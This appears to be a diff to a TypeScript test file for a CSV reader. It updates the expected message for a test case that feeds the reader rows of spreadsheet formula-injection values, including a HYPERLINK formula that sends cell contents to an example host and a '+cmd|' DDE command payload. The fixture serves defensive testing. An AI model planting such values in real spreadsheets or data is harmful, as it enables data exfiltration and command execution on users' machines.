@@ -59,7 +59,7 @@ const hostile: readonly (readonly [string, () => string | Buffer, RegExp])[] = [
   [
     'nothing but formulas',
     () => `a,b,kind\n${'=HYPERLINK("http://example.org?x="&A1),+cmd|x!A0,@SUM(A1:A9)\n'.repeat(20_000)}`,
-    /6000 cells are formulas, the first “=HYPERLINK.*only the text is read/,
+    /5997 cells are formulas, the first “=HYPERLINK.*only the text is read/,
   ],
   ['ragged rows only', () => 'a,b,c\n1,2\n3\n4,5,6,7\n', /No row has 3 cells/],
 ];
